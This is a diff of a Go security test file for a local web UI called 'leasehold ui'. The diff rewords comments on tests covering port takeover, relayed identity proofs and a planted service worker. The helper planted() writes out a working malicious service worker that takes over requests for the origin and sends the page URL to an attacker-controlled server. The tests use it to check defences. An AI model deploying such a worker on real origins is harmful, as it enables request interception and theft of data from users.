@@ -167,8 +167,9 @@ func opensWith(t testing.TB, at, loot string) string {
 }
 
 // planted returns the script of a malicious service worker. The browser passes each request for
-// the attacked origin to this worker. The worker reports the request to the attacker's server at
-// the URL in owner, and answers it with the attacker's page if it loads a page.
+// the attacked origin to this worker. The worker sends the URL and the headers of the request to
+// the attacker's server. If the browser wants to load a page, the worker returns the attacker's
+// page. The parameter owner is the URL of the attacker's server.
 func planted(owner string) string {
 	page := `<script>fetch(` + js(owner+"/told") + `, { method: "POST", mode: "no-cors", body: location.href })</script><p>the attacker answers`
 	return `addEventListener("install", () => skipWaiting());
@@ -179,9 +180,9 @@ func planted(owner string) string {
 	});`
 }
 
-// If an origin has a service worker, the browser passes requests to the worker instead of the
-// server. Another user may have served a page at the address and port that leasehold ui uses
-// later, and this page may have installed a service worker.
+// An attacker's page installs a service worker for an address and port. Then leasehold ui starts at
+// the same address and port. The browser still passes requests for this address to the service
+// worker instead of the server.
 func TestOldServiceWorkerDoesNotSeeSecretToken(t *testing.T) {
 	s := newScene(t)
 	owner := attack(t, "0", &attacker{})
@@ -341,7 +342,7 @@ func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 	_, port, _ := net.SplitHostPort(addr)
 
 	// The page asks its server for a proof that the server knows the secret. Any client may ask
-	// leasehold ui for a proof. The attacker asks here, and replays the proof on the stolen port.
+	// leasehold ui for a proof. The attacker asks now, and later sends this proof to the page.
 	said := get(t, "http://"+addr+"/who?nonce="+strings.Repeat("0", 64))
 
 	p.server.kill()
@@ -380,9 +381,9 @@ func TestPageSendsNoSecretToServerOnStolenPort(t *testing.T) {
 	}
 }
 
-// The page asks its server for a proof that the server knows the secret. An attacker takes the
-// server's port. It forwards the page's question to another leasehold ui with the same secret,
-// and returns the valid proof that this other server gives.
+// The test kills leasehold ui while its page is open, and an attacker takes the port. The page asks
+// the attacker's server for a proof that it knows the secret. The attacker forwards this question
+// to another leasehold ui with the same secret, and returns that server's proof to the page.
 func TestPageRejectsIdentityProofRelayedFromOtherServer(t *testing.T) {
 	s := newScene(t)
 	p := s.ui("--token-file", "token")
